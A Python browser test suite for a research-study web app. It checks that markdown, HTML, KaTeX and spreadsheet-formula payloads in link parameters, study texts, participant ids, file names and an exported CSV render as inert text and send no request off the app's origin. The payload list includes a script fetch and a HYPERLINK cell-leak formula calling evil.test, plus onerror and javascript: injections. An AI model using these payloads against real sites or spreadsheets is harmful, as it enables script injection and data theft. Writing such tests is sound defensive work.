"""Markdown and HTML payloads through every place the study shows text that a link, a participant or a study lead
controls, in real Chromium, with a log of every request the browser makes: none may leave the app's origin, no
Content-Security-Policy refusal may be needed (the CSP is a second line, so a refusal means escaping failed), and
no injected image or link may reach the page.

Places: the ``study``, ``pid`` and ``session`` link parameters and their error messages; the title, instructions,
consent, prompt and option labels of a study; participant ids on the admin's results page (ids from before the
safe alphabet, written into the database directly); the study list; an upload's file name in the sidebar's error;
the responses CSV (formulas neutralised).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from browser import (
    MODEL_MS,
    OUTSIDE_LINKS,
    VIEWPORT,
    RequestLog,
    settle,
    sidebar,
    sign_in_admin,
    wait_for_images,
    wait_for_run,
)
from sqlalchemy import update

import xai_core
from xai_core import study
from xai_core.study import schema as orm
from xai_core.study.demo import synthetic_stimuli

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PAYLOADS = [
    "![pixel](http://evil.test/md-image.png)",
    "[click me](http://evil.test/md-link)",
    "[js](javascript:alert(1))",
    "<img src=http://evil.test/html-img.png onerror=alert(1)>",
    "<a href='http://evil.test/html-link'>html link</a>",
    "<script>fetch('http://evil.test/script')</script>",
    "http://evil.test/autolink and www.evil.test",
    "<http://evil.test/angle-autolink>",
    "$\\href{http://evil.test/katex}{x}$ $$\\includegraphics{http://evil.test/k.png}$$",
    ":red[coloured] :smile: **bold** # heading",
    "\x1b[31mred\x07 bell \u202ereversed\u200b zero-width",
    '=HYPERLINK("http://evil.test/csv?leak="&A1,"Click")',
]
LONG = "L" * 5000
PAPERS = frozenset(m["url"] for m in xai_core.methods.describe())  # the method forms link their papers
TITLE = "Study ![t](http://evil.test/title.png) <img src=http://evil.test/t2.png>"
# Markdown containers must hold no image and no link (but Streamlit's own "#" anchors of headings): the text in
# them is escaped.
INJECTED = """() => [...document.querySelectorAll('[data-testid=stMarkdownContainer] :is(img, a:not([href^="#"]))')]
    .map(e => e.outerHTML.slice(0, 200))"""


def shown(locator: Any) -> str:
    """The text as a reader sees it (without the invisible word joiners that keep URLs from becoming links)."""
    return str(locator.inner_text()).replace("\u2060", "")


def payload_study(db_url: str) -> str:
    """A forward-simulation study whose every text is a payload, with one attention check; returns its code."""
    db = study.open_database(db_url)
    try:
        spec = study.StudySpec(
            TITLE,
            "\n\n".join([*PAYLOADS, LONG]),
            tasks=(study.FORWARD_SIMULATION,),
            consent="\n".join(PAYLOADS),
            trials_per_participant=3,
            attention_checks=1,
            prompts={study.FORWARD_SIMULATION: "Which class? {label} " + PAYLOADS[3]},
            distractor_labels=(*PAYLOADS[:6], LONG),
        )
        code = study.create_study(db, spec).code
        stimuli = synthetic_stimuli(images=2, methods=("saliency", "grad_cam"), labels=PAYLOADS[:2], size=64)
        check = study.AttentionCheck(study.FORWARD_SIMULATION, PAYLOADS[1], 0, (0,), ("attention", PAYLOADS[0]))
        study.publish(db, code, stimuli, [check])
        for k, payload in enumerate(PAYLOADS[-3:]):  # ids from before the safe alphabet, failing the check
            run = study.join(db, code, participant_id=f"legacy{k}", consented=True)
            while (view := study.next_trial(db, run.token)) is not None:
                study.answer(db, run.token, view.trial_id, 1 if view.options[0] == "attention" else 0)
            with db.write() as session:
                session.execute(
                    update(orm.Participant).where(orm.Participant.code == f"legacy{k}").values(code=payload)
                )
        return code
    finally:
        db.dispose()


def visit(page: Any, url: str, wait_text: str) -> None:
    page.goto(url, wait_until="networkidle")
    page.get_by_text(wait_text).first.wait_for(timeout=MODEL_MS)
    wait_for_run(page)
    settle(page, 0.5)


def assert_inert(page: Any, origin: str, allowed: frozenset[str] = frozenset()) -> None:
    """No injected image or link, and no element pointing outside the app but the ``allowed`` (the app's own)."""
    assert page.evaluate(INJECTED) == [], page.url
    assert [u for u in page.evaluate(OUTSIDE_LINKS, origin) if u not in allowed] == [], page.url


def test_payloads_render_as_text_and_the_browser_requests_nothing_outside(
    app_server: Any, browser: Any, artifacts: Path, tmp_path: Path
) -> None:
    code = payload_study(app_server.db_url)
    origin = app_server.url.rstrip("/")
    participant = browser.new_context(viewport=VIEWPORT)
    admin = browser.new_context(viewport=VIEWPORT, accept_downloads=True)
    logs = [RequestLog(participant, origin), RequestLog(admin, origin)]
    try:
        page = participant.new_page()
        for payload in [*PAYLOADS[:4], LONG]:  # link parameters: a study that does not exist
            visit(page, f"{app_server.url}?study={quote(payload)}", "There is no study with the code in this link")
            assert_inert(page, origin)
        visit(page, f"{app_server.url}?study={code}&pid={quote(PAYLOADS[0])}", "participant id in this link")
        assert_inert(page, origin)
        visit(page, f"{app_server.url}?study={code}&session={quote(PAYLOADS[3])}", "no longer valid")
        assert_inert(page, origin)

        visit(page, f"{app_server.url}?study={code}", "Consent")
        heading = shown(page.get_by_test_id("stHeading").first)
        assert "![t](http://evil.test/title.png) <img src=http://evil.test/t2.png>" in heading  # literally
        main = shown(page.get_by_test_id("stMain"))
        assert PAYLOADS[0] in main and PAYLOADS[3] in main and "[js](javascript:alert(1))" in main
        assert ":red[coloured]" in main and "**bold** # heading" in main and "$\\href{" in main
        assert_inert(page, origin)
        page.screenshot(path=str(artifacts / "injection-welcome.png"))
        page.get_by_text("I have read the above and agree to take part.").click()
        page.get_by_role("button", name="Start").click()
        page.get_by_text("Question 1 of 3").wait_for(timeout=MODEL_MS)
        wait_for_run(page)
        wait_for_images(page, 2, timeout_ms=MODEL_MS)
        settle(page, 0.5)
        assert_inert(page, origin)
        page.screenshot(path=str(artifacts / "injection-question.png"))

        page = admin.new_page()
        sign_in_admin(page, app_server.url, app_server.admin_token)
        name = "[click](javascript:alert(1)) ![x](https:evil.test) <img src=x onerror=alert(1)>.png"
        (tmp_path / name).write_bytes(b"not an image at all")
        sidebar(page).get_by_test_id("stFileUploader").locator("input[type=file]").set_input_files(str(tmp_path / name))
        error = sidebar(page).get_by_test_id("stAlertContentError")
        error.wait_for(timeout=MODEL_MS)
        assert name in shown(error)  # the file name, literally
        assert_inert(page, origin, PAPERS)  # the landing page is Explain, whose method forms link their papers
        sidebar(page).get_by_role("link", name="Study design").click()
        page.get_by_text("New study").wait_for(timeout=MODEL_MS)
        settle(page)
        assert_inert(page, origin, PAPERS)
        sidebar(page).get_by_role("link", name="Study results").click()
        warning = page.get_by_test_id("stAlertContentWarning").filter(has_text="Failed an attention check")
        warning.wait_for(timeout=MODEL_MS)
        ids = shown(warning)
        assert ":red[coloured]" in ids and "[31mred" in ids and '=HYPERLINK("http://evil.test' in ids
        settle(page)
        assert_inert(page, origin)
        page.screenshot(path=str(artifacts / "injection-results.png"), full_page=True)
        with page.expect_download() as download:
            page.get_by_role("button", name="responses.csv").click()
        rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text())))
        formula = [r["participant"] for r in rows if "HYPERLINK" in r["participant"]]
        assert formula and all(cell.startswith("'=") for cell in formula)  # shown as text by a spreadsheet
    finally:
        participant.close()
        admin.close()
    for log in logs:
        assert log.urls and log.outside() == [], log.outside()
        assert log.csp == [], log.csp  # nothing needed the CSP: the text was inert before it
